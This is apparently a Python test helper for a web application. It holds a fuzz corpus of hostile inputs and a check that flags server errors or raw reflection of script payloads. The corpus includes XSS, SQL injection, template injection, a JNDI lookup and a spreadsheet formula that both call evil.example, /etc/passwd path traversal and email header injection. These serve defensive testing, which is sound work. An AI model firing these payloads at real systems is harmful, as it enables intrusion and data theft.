"""Fifty strings that have broken other people's software, and how to see that one broke ours."""

import re

from werkzeug.test import TestResponse

MARK = "kithprobe"
"""Stands in each scripted string: seen raw in a page, it would have run."""

SCRIPTED = (
    f"<script>{MARK}</script>",
    f'"><img src=x onerror={MARK}>',
    f"'><svg/onload={MARK}>",
    f"javascript:{MARK}",
    f"</textarea><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"<a href=javascript:{MARK}>x</a>",
    f"<iframe src=//evil.example/{MARK}>",
    f"<!--{MARK}--><b>",
    f"[x](javascript:{MARK})",
)

HOSTILE = (
    *SCRIPTED,
    "",
    " ",
    "\t\r\n",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud800",
    "\ufeff",
    "\u202eevil\u202c",
    "\u200b\u200b",
    "\uffff",
    "é" * 300,
    "e\u0301" * 200,
    "Z̸̨̛" * 40,
    "社区" * 150,
    "🏳️‍🌈" * 60,
    "𝓚𝓲𝓽𝓱",
    "İıſK",
    "A" * 5_000,
    "A" * 70_000,
    "'; DROP TABLE person; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(5)",
    "%' ESCAPE '",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}",
    "${jndi:ldap://evil.example/a}",
    "%(name)s %s %d {0}",
    '=HYPERLINK("//evil.example")',
    "@SUM(1+1)",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "/\\evil.example",
    "//evil.example",
    "https://evil.example/?next=//evil.example",
    "a@b",
    '"a b"@example.org',
    "name@example.org\r\nBcc: everyone@example.org",
    "-1",
    "0",
    "99999999999999999999",
    "1e309",
    "NaN",
    "２０２６-01-01",
    "2026-02-30",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "25:61",
    "Mars/Olympus_Mons",
    "xx_YY",
)

RAW = re.compile(
    rf"<(script|svg/onload|img src=x|iframe)[^<&]*{MARK}|<a [^<>&]*href=.?javascript:{MARK}"
)
"""What a page says when it repeats one of them as it came."""


def faults_of(response: TestResponse) -> list[str]:
    """Return what is wrong with an answer to hostile input."""
    found = [f"{response.status_code}"] if response.status_code >= 500 else []
    body = response.get_data(as_text=True)
    return found + [f"raw reflection: {one[0]}" for one in RAW.finditer(body)]


def in_bytes(text: str) -> bytes:
    """Return a string as bytes that a client could send, broken ones too."""
    return text.encode("utf-8", "surrogatepass")
